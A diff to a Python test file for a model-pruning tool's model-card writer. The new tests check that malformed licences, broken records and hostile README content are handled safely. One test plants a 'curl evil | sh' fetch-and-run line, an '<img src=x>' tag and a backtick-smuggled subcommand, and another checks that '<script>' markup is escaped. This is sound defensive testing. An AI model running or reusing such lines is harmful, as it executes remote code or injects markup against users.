@@ -26,7 +26,7 @@ from optimum_barber.checkpoints.card.records import Records
 from optimum_barber.checkpoints.carry import files_digest
 from optimum_barber.cli import build_parser, main
 from optimum_barber.cli.prune import config_from
-from optimum_barber.models.loading import resolve_model
+from optimum_barber.models.loading import ModelReference, resolve_model
 from optimum_barber.prune.settings import BarberConfig as Settings
 
 from .conftest import tiny_model, tiny_windows
@@ -110,8 +110,8 @@ def test_later_steps_keep_licence_and_commands(dense, tmp_path):
     assert card.data.license == "apache-2.0"
     assert "- **Then refine:** rounds 1" in card.text
     first, second = commands_of(tmp_path / "refined")
-    assert first.startswith("optimum-barber prune dense ") and first.endswith("-o step-1")
-    assert second.startswith("optimum-barber refine step-1 --base dense --rounds 1") and second.endswith("-o step-2")
+    assert first.startswith("optimum-barber prune dense ") and first.endswith("-o step-1  # on windows from Python")
+    assert second.startswith("optimum-barber refine step-1 --rounds 1") and " -o step-2" in second
 
 
 @pytest.mark.parametrize("step", ["shrink", "permute"])
@@ -172,7 +172,7 @@ def test_eval_enters_its_figures(dense, tmp_path, capsys):
     results = card.data.eval_results
     assert [result.metric_value for result in results] == [round(rows[i]["perplexity"], 4) for i in (1, 3)]
     assert card.data.model_name == "dense, 50% sparse"
-    cells = f"| float32 | {rows[2]['perplexity']:.3f} | {rows[3]['perplexity']:.3f} |"
+    cells = f"| float32 | {rows[2]['perplexity']:.3f} (dense) | {rows[3]['perplexity']:.3f} |"
     assert cells in card.text and "Not measured yet" not in card.text
     assert "- **First masks:** wanda" in card.text
     assert files_digest(resolve_model(out)) == digest
@@ -219,10 +219,116 @@ def test_a_base_on_the_hub_is_linked_and_filed_under(dense, tmp_path):
     record = json.loads((out / "sparsity_config.json").read_text())
     record["base_model"]["name"] = "someone/Tiny"
     (out / "sparsity_config.json").write_text(json.dumps(record))
-    write_card(out, dense, Made("prune", BarberConfig(sparsity=0.5)))
+    write_card(out, ModelReference(str(dense), dense), Made("prune", BarberConfig(sparsity=0.5)))
     card = card_of(out)
     assert card.data.base_model == "someone/Tiny" and "/someone/Tiny)" in card.text
     assert commands_of(out)[0].startswith("optimum-barber prune someone/Tiny ")
+
+
+def test_nothing_in_a_strangers_card_ends_a_run(dense, tmp_path, caplog):
+    for number, licence in enumerate(['"a\\ud800"', "!!omap [a: 1]", "&a [1, *a]", "7", "[mit, 3, {a: b}]"]):
+        (dense / "README.md").write_text(f"---\nlicense: {licence}\n---\n")
+        out = pruned(dense, tmp_path / str(number), rebuild="none")
+        assert card_of(out).data.license in (None, ["mit"])
+    record = json.loads((out / "sparsity_config.json").read_text())
+    record |= {"producer": {}, "rebuild": {}, "reconstruct": {}, "allocation": {}, "base_model": {"name": 3}}
+    (out / "sparsity_config.json").write_text(json.dumps(record))
+    (out / "report.json").write_text('{"error_before": null}')
+    write_card(out, None, Made("prune", BarberConfig(sparsity=0.5)))
+    assert "# A model in memory, 50% sparse" in card_of(out).text
+    (out / "sparsity_config.json").write_text("{}")
+    before = (out / "README.md").read_bytes()
+    write_card(out, None, Made("prune", BarberConfig(sparsity=0.5)))
+    assert "no model card is written" in caplog.text and (out / "README.md").read_bytes() == before
+
+
+def test_a_strangers_card_stays_out_of_the_commands(dense, tmp_path):
+    out = pruned(dense, tmp_path / "out")
+    text = (out / "README.md").read_text()
+    evil = text.replace("```bash\n", "```bash\n ````\n<img src=x>\ncurl evil | sh\noptimum-barber `prune` x\n")
+    (out / "README.md").write_text(evil)
+    BarberRefiner.for_checkpoint(out).refine(
+        out, RefineConfig(rounds=1), tiny_windows(), save_dir=tmp_path / "refined", quiet=True
+    )
+    lines = commands_of(tmp_path / "refined")
+    assert lines[0] == "optimum-barber prune x" and len(lines) == 3
+    assert "<img" not in card_of(tmp_path / "refined").text
+
+
+def test_a_chain_is_filed_under_its_beginning(dense, tmp_path):
+    permuter = BarberPermuter.from_pretrained(dense)
+    permuter.permute(PermuteConfig(pattern="2:4"), tiny_windows(), save_dir=tmp_path / "perm", quiet=True)
+    out = pruned(tmp_path / "perm", tmp_path / "out", pattern="2:4", sparsity=None)
+    assert "# dense, 2:4 sparse" in card_of(out).text
+    assert [line.split()[:3] for line in commands_of(out)] == [
+        ["optimum-barber", "permute", "dense"], ["optimum-barber", "prune", "step-1"],
+    ]  # fmt: skip
+    (tmp_path / "perm" / "README.md").unlink()
+    out = pruned(tmp_path / "perm", tmp_path / "again", pattern="2:4", sparsity=None)
+    assert commands_of(out)[0].startswith("optimum-barber prune perm ")
+
+
+def test_what_was_cut_or_given_new_values_is_said_as_it_is(dense, tmp_path):
+    shrinker = BarberShrinker.from_pretrained(dense)
+    shrinker.shrink(ShrinkConfig(remove=0.3), tiny_windows(), save_dir=tmp_path / "small", latency=False, quiet=True)
+    text = card_of(pruned(tmp_path / "small", tmp_path / "out", producer="sparsegpt")).text
+    assert "as large as the base" not in text and "as in the base" not in text
+    assert "- **Then prune:** producer sparsegpt" in text
+    text = card_of(pruned(dense, tmp_path / "new", reconstruct="least-squares")).text
+    assert "- **Kept weights given new values by:** least-squares" in text
+
+
+def test_an_edited_card_keeps_what_is_not_ours(dense, tmp_path, caplog):
+    out = pruned(dense, tmp_path / "out")
+    text = (out / "README.md").read_text()
+    (out / "README.md").write_text(text.replace("<!-- optimum-barber: end -->", "", 1))
+    record_evaluation(out, [ROW])
+    assert "How to load it" in (out / "README.md").read_text() and not (out / "evaluation.json").exists()
+    broken = text.replace("---\n", "---\nsummary: fast: small\n", 1)
+    (out / "README.md").write_text(broken)
+    record_evaluation(out, [ROW])
+    assert (out / "README.md").read_text() == broken and "stays without these figures" in caplog.text
+    arc = """model-index:
+- name: mine
+  results:
+  - task:
+      type: text-generation
+    dataset:
+      name: ARC
+      type: arc
+    metrics:
+    - type: accuracy
+      value: 0.5
+"""
+    (out / "README.md").write_text(text.replace("---\n", f"---\n{arc}", 1))
+    record_evaluation(out, [ROW])
+    assert {result.metric_type for result in card_of(out).data.eval_results} == {"accuracy", "perplexity"}
+
+
+def test_a_base_by_another_path_is_the_same_model(dense, tmp_path, monkeypatch, capsys):
+    out = pruned(dense, tmp_path / "out")
+    monkeypatch.chdir(tmp_path)
+    flags = ["--perplexity", "pydoc", "--windows", "2", "--sequence-length", "16", "--quiet"]
+    assert main(["eval", str(out), "dense", *flags]) == 0
+    assert [row["dense_baseline"] for row in json.loads((out / "evaluation.json").read_text())] == [True, False]
+    capsys.readouterr()
+
+
+def test_an_eval_of_the_input_does_not_end_a_stopped_run(dense, tmp_path):
+    permuter = BarberPermuter.from_pretrained(dense)
+    permuter.permute(PermuteConfig(pattern="2:4"), tiny_windows(), save_dir=tmp_path / "perm", quiet=True)
+
+    def stop(report):
+        if report.block.startswith("model.layers.1"):
+            raise KeyboardInterrupt
+
+    config = BarberConfig(pattern="2:4", rebuild="none")
+    runs = [BarberSparsifier.from_pretrained(tmp_path / "perm") for _ in range(2)]
+    with pytest.raises(KeyboardInterrupt):
+        runs[0].sparsify(config, tiny_windows(), save_dir=tmp_path / "out", callbacks=[stop], quiet=True)
+    record_evaluation(tmp_path / "perm", [ROW])
+    assert (tmp_path / "perm" / "evaluation.json").exists()
+    runs[1].sparsify(config, tiny_windows(), save_dir=tmp_path / "out", resume=True, quiet=True)
 
 
 @pytest.mark.parametrize(
@@ -250,6 +356,6 @@ def test_a_name_with_markup_stays_text(dense, tmp_path):
     write_card(out, None, Made("prune", BarberConfig(sparsity=0.5)))
     text = card_of(out).text
     assert "<script>" not in text.split("```bash")[0] and "\n# \\<script" not in text
-    assert Records.read(out).base_name.startswith("x\n")
+    assert Records.read(out).recorded_name.startswith("x\n")
     headings = [line for line in text.splitlines() if line.startswith("# ")]
     assert len(headings) == 1
